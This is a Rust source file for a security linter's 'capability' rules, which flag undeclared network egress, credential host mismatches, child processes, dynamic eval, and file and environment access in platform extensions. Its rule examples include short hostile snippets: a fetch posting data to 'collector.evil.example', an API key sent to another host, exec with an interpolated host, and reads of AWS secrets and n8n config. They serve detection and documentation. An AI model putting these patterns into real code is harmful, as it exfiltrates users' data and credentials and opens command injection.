//! Metadata of the `capability/…` rules.

use portcullis_core::{Category, Finding, Location, RuleMeta, Severity};

struct R {
    id: &'static str,
    name: &'static str,
    severity: Severity,
    short: &'static str,
    what: &'static str,
    why: &'static str,
    example: &'static str,
    fix: &'static str,
    cwe: &'static [u32],
}

const RULES: &[R] = &[
    R {
        id: "capability/undeclared-egress",
        name: "Undeclared network egress",
        severity: Severity::Medium,
        short: "Code reaches a host no manifest declaration allows.",
        what: "Compares every host the code (or a known dependency) reaches with the hosts the manifest declares (egress permissions, base URLs, credential hosts), per channel where the platform enforces channels (Forge backend vs. Custom UI). On platforms without egress declarations (Node-RED, plain npm) the finding is informational inventory.",
        why: "An undeclared destination is invisible to the reviewers who approved the manifest: it is where data exfiltration, telemetry or a compromised dependency's beacon shows up. On Forge the call also fails at run time.",
        example: "// manifest.yml declares fetch.backend: [api.acme.io]\nawait fetch('https://collector.evil.example/ingest', { body });",
        fix: "Declare the host (and justify it in review), or remove the call.",
        cwe: &[200, 441],
    },
    R {
        id: "capability/user-configured-egress",
        name: "Egress to a user-configured or arbitrary host",
        severity: Severity::Low,
        short: "Requests go to a host taken from configuration or input.",
        what: "Reports requests whose destination host comes from a user-configured field (an n8n base-URL parameter, a Grafana `jsonData.url`) or from arbitrary data, when the manifest does not declare that field as a destination.",
        why: "A destination chosen at run time is a server-side request forgery surface: the platform's network position (cloud metadata, internal services) becomes reachable, with the extension's credentials attached.",
        example: "const url = this.getNodeParameter('url', i);\nawait this.helpers.httpRequest({ url });",
        fix: "Restrict the host to an allow-list, or declare the field as user-configured so reviewers see it.",
        cwe: &[918],
    },
    R {
        id: "capability/wildcard-egress",
        name: "Wildcard egress declared",
        severity: Severity::High,
        short: "The manifest allows egress to `*` or to every subdomain of a domain.",
        what: "Reports declared egress entries that are `*` (any host, high) or `*.domain` (every subdomain, low).",
        why: "A wildcard turns the declaration into no declaration: any exfiltration destination passes review and platform enforcement.",
        example: "permissions:\n  external:\n    fetch:\n      backend:\n        - '*'",
        fix: "List the exact hosts the app calls.",
        cwe: &[183],
    },
    R {
        id: "capability/credential-host-mismatch",
        name: "Credential sent to a host it is not bound to",
        severity: Severity::High,
        short: "A credential flows to a host outside the hosts it is declared for.",
        what: "Compares the hosts code sends a credential to with the hosts the credential declares (n8n `test.request`/base URL, Grafana route URL, generic `hosts`).",
        why: "Sending a user's API token to a different host is credential theft, whether by design or by a compromised dependency.",
        example: "const { apiKey } = await this.getCredentials('acmeApi');\nawait this.helpers.httpRequest({ url: 'https://other.example/x', headers: { 'x-key': apiKey } });",
        fix: "Send credentials only to their declared hosts; use the platform's authenticated request helper.",
        cwe: &[522, 201],
    },
    R {
        id: "capability/secret-in-plain-field",
        name: "Secret kept in a plain configuration field",
        severity: Severity::Medium,
        short: "Code treats a credential field as a secret that the manifest does not mask.",
        what: "Reports credential fields the code uses as secrets (sent in an auth header, signed with) that the manifest does not mark as password/secure fields.",
        why: "Unmasked fields are shown in clear text in editors and exports, and stored without the platform's secret protection.",
        example: "{ name: 'apiKey', type: 'string', default: '' }   // used as Bearer token",
        fix: "Mark the field as a password / secure field in the manifest.",
        cwe: &[312],
    },
    R {
        id: "capability/unauthenticated-ingress",
        name: "Ingress without authentication",
        severity: Severity::Medium,
        short: "A webhook, web trigger or HTTP route accepts unauthenticated requests.",
        what: "Reports declared or observed ingress points known to lack authentication (Forge web triggers, routes without auth middleware).",
        why: "Anyone who learns the URL can drive the extension, inject data into workflows or trigger actions with the installation's privileges.",
        example: "modules:\n  webtrigger:\n    - key: sync\n      function: sync",
        fix: "Verify a signature or shared secret in the handler, and treat the payload as untrusted.",
        cwe: &[306],
    },
    R {
        id: "capability/undeclared-process",
        name: "Child process not allowed",
        severity: Severity::High,
        short: "Code (or a dependency) starts processes the platform or manifest does not allow.",
        what: "Reports child processes on platforms that forbid them (n8n, Forge, browser-side PCF/Grafana code) or that the generic manifest does not list.",
        why: "A child process escapes every platform control: it can read the host, the platform's secrets and other tenants' data.",
        example: "import { exec } from 'child_process';\nexec(`ping ${host}`);",
        fix: "Use a platform API or a pure-JS library; declare the exact command in portcullis.toml when it is truly needed.",
        cwe: &[78, 250],
    },
    R {
        id: "capability/undeclared-dynamic-code",
        name: "Dynamic code evaluation not allowed",
        severity: Severity::High,
        short: "`eval`, `new Function`, `vm` or a sandbox library on a platform that does not allow it.",
        what: "Reports dynamic code evaluation that the manifest does not declare.",
        why: "Code that is not in the package cannot be reviewed; eval of remote or user data is remote code execution.",
        example: "new Function(payload.script)();",
        fix: "Remove dynamic evaluation; declare `dynamic_code = true` only with a reviewed justification.",
        cwe: &[95],
    },
    R {
        id: "capability/undeclared-native-module",
        name: "Native module not allowed",
        severity: Severity::High,
        short: "A native addon or binary the platform or manifest does not allow.",
        what: "Reports native modules (from code or from a dependency such as better-sqlite3) that are not declared.",
        why: "Native code cannot be analysed like JS, runs with full process privileges and often downloads prebuilt binaries at install time.",
        example: "const Database = require('better-sqlite3');",
        fix: "Use a pure-JS alternative, or declare the module for review.",
        cwe: &[829],
    },
    R {
        id: "capability/undeclared-fs",
        name: "File-system access not allowed",
        severity: Severity::Medium,
        short: "File-system access the platform or manifest does not allow.",
        what: "Reports file reads and writes that the manifest does not declare.",
        why: "File access from an in-process extension reaches the platform's configuration, its encryption key and other users' data.",
        example: "fs.readFileSync(path.join(os.homedir(), '.n8n/config'));",
        fix: "Use platform binary-data helpers; declare the exact path in portcullis.toml when needed.",
        cwe: &[552],
    },
    R {
        id: "capability/undeclared-env",
        name: "Environment access not declared",
        severity: Severity::Low,
        short: "Reads environment variables the generic manifest does not list.",
        what: "Reports environment reads that the generic manifest does not declare.",
        why: "The host's environment holds its secrets; an extension reading it can exfiltrate them.",
        example: "const key = process.env.AWS_SECRET_ACCESS_KEY;",
        fix: "Take configuration from the platform's settings; declare needed variables in portcullis.toml.",
        cwe: &[526],
    },
    R {
        id: "capability/undeclared-scope",
        name: "Scope or feature used but not declared",
        severity: Severity::Medium,
        short: "Code calls a platform API whose scope or feature the manifest does not declare.",
        what: "Infers the scopes Forge code needs — product REST calls (`requestJira`/`requestConfluence`/`requestBitbucket` route and HTTP method, looked up in a table taken from Atlassian's REST docs), the storage, properties and events APIs, trigger events — and the PCF features its code uses (`context.webAPI`, `context.device.*`, `context.utils`), and reports those the manifest does not declare. A call whose route cannot be resolved statically counts only when the manifest declares no scope of that product at all; products with granular scopes declared are not checked.",
        why: "The platform refuses the call at run time (Forge answers 403, an undeclared PCF feature is unavailable): a feature that breaks in production, or one that an update will make work by widening the consent screen.",
        example: "permissions:\n  scopes:\n    - read:jira-work\n# src/index.js\nawait api.asApp().requestJira(route`/rest/api/3/issue/${key}`, { method: 'PUT', body });",
        fix: "Declare the scope or feature (and justify it in review), or remove the call.",
        cwe: &[1059],
    },
    R {
        id: "capability/unused-declaration",
        name: "Declared permission is not used",
        severity: Severity::Low,
        short: "A declared permission, scope or host that no observed behaviour uses (over-broad).",
        what: "Reports explicit permission declarations (Forge scopes and fetch hosts, PCF domains and features, Grafana IAM permissions, generic allowances) that no observed behaviour uses. Scopes are judged only when code analysis can infer them (Forge scopes in the adapters' table from Atlassian's REST docs, PCF `WebAPI`/`Device.*`/`Utility` features) and did infer some scope; a product with any call whose route is not resolved statically has none of its scopes called unused.",
        why: "Unused permissions widen the blast radius of a compromise and train admins to accept broad consent screens; they also hide where a future malicious update will reach.",
        example: "permissions:\n  scopes:\n    - write:jira-work   # the app only reads",
        fix: "Remove the declaration.",
        cwe: &[250],
    },
];

fn meta(r: &R) -> RuleMeta {
    let mut help = format!(
        "## What it does\n{}\n\n## Why is this bad?\n{}\n\n## Example\n```\n{}\n```\n\nUse instead:\n{}\n\n## References\n",
        r.what, r.why, r.example, r.fix
    );
    for c in r.cwe {
        help.push_str(&format!(
            "- [CWE-{c}](https://cwe.mitre.org/data/definitions/{c}.html)\n"
        ));
    }
    RuleMeta {
        id: r.id.to_string(),
        name: r.name.to_string(),
        category: Category::Capability,
        default_severity: r.severity,
        short_description: r.short.to_string(),
        help,
        cwe: r.cwe.to_vec(),
        references: r
            .cwe
            .iter()
            .map(|c| format!("https://cwe.mitre.org/data/definitions/{c}.html"))
            .collect(),
    }
}

/// Every `capability/…` rule.
pub fn rules() -> Vec<RuleMeta> {
    RULES.iter().map(meta).collect()
}

/// A finding of rule `id` with the rule's CWEs and fix; `severity` overrides the default.
pub(crate) fn finding(
    id: &str,
    severity: Option<Severity>,
    message: impl Into<String>,
    location: Location,
) -> Finding {
    let rule = RULES.iter().find(|r| r.id == id);
    let mut f = Finding::new(
        id,
        Category::Capability,
        severity
            .or(rule.map(|r| r.severity))
            .unwrap_or(Severity::Low),
        message,
        location,
    );
    if let Some(r) = rule {
        f = f.with_remediation(r.fix);
        for c in r.cwe {
            f = f.with_cwe(*c);
        }
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_unique_and_prefixed() {
        let r = rules();
        let mut ids: Vec<_> = r.iter().map(|r| r.id.clone()).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), r.len());
        assert!(ids.iter().all(|i| i.starts_with("capability/")));
    }
}
